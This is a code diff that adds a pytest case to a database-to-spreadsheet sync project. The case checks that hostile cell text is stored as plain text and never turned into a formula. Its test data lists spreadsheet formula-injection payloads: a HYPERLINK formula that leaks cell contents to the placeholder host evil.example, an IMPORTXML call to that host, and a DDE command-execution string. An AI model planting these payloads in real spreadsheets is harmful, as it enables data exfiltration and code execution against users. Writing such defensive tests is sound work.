@@ -46,6 +46,21 @@ def test_a_formula_that_cannot_be_computed_is_told_beside_its_cell_until_it_can(
     sums.verify()
 
 
+def test_no_text_from_the_table_becomes_a_formula_in_the_sheet(sums: Orders) -> None:
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "'=1+1", "\t=1+1", "=",
+        '=IMPORTXML("http://evil.example","//a")', "\r=cmd|'/C calc'!A0", "\uff1d1+1",
+    ]  # fmt: skip
+    before = sums.tab_state()["formulas"]
+    for text in hostile:
+        sums.sql("INSERT INTO {table} (customer, item, quantity, notes) VALUES (%s, 'x', 1, %s)", text, text)
+    wait_for(lambda: len([r for r in sums.sheet_rows() if r["Item"] == "x"]) == len(hostile), "all rows in the sheet")
+    shown = sorted((row["Customer"], row["Notes"]) for row in sums.sheet_rows() if row["Item"] == "x")
+    assert shown == sorted((text, text) for text in hostile)
+    assert sums.tab_state()["formulas"] == before
+    sums.verify()
+
+
 def test_a_formula_wins_over_the_table_and_the_note_tells_what_it_replaced(sums: Orders) -> None:
     row = sums.row(3)
     sums.type(f"D{row}", ["=2+3"])
